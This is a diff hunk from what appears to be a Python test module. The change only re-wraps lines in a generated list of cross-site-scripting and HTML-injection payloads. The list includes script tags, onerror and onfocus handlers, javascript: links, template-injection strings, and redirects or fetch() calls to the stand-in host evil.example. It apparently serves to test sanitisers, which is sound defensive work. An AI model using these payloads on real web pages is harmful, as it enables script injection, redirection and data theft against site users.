@@ -46,9 +46,11 @@ _TAGS = [
     "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>", "<base href=http://evil.example/>",
     "<form action=http://evil.example/{n}><button>go</button></form>", "<details open ontoggle={js}>",
     "\"><script>{js}</script>", "'><img src=x onerror={js}>", "</textarea><script>{js}</script>",
-    "</title><script>{js}</script>", "<math><mtext><script>{js}</script></mtext></math>", "&#60;script&#62;{js}&#60;/script&#62;",
+    "</title><script>{js}</script>", "<math><mtext><script>{js}</script></mtext></math>",
+    "&#60;script&#62;{js}&#60;/script&#62;",
     "![x](http://evil.example/{n}.png)", "[x](javascript:{js})", "<input autofocus onfocus={js}>",
-    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "{{{{ {js} }}}} {{% debug %}}", "data:text/html,<script>{js}</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "{{{{ {js} }}}} {{% debug %}}",
+    "data:text/html,<script>{js}</script>",
 ]  # fmt: skip
 _SCRIPTS = ["window.pwned={n}", "fetch('http://evil.example/{n}')", "document.title='pwned{n}'", "alert({n})"]
 PAYLOADS = [tag.format(js=script.format(n=n), n=n) for n, (tag, script) in enumerate(product(_TAGS, _SCRIPTS))]
